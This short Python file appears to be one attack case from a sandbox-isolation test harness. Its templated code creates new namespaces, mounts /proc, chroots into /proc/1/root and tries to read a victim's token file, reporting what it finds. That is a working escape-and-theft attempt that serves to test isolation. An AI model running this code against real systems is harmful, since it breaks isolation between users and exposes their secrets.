"""Make namespaces of one's own to become root in them, and look at the victim from there."""

LINUX = True
FIRST = """{{TELL}}
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
try:
    _child = os.fork()
    if _child == 0:
        try:
            if _libc.unshare(0x10000000 | 0x00020000 | 0x40000000) == 0:
                _libc.mount(None, b"/proc", b"proc", 0, None)
            _libc.chroot(b"/proc/1/root")
            with open("{{VICTIM}}/home/token.txt") as _file:
                tell(_file.read())
        except OSError:
            pass
        finally:
            os._exit(0)
    os.waitpid(_child, 0)
except OSError:
    pass
"""
KEPT = {}
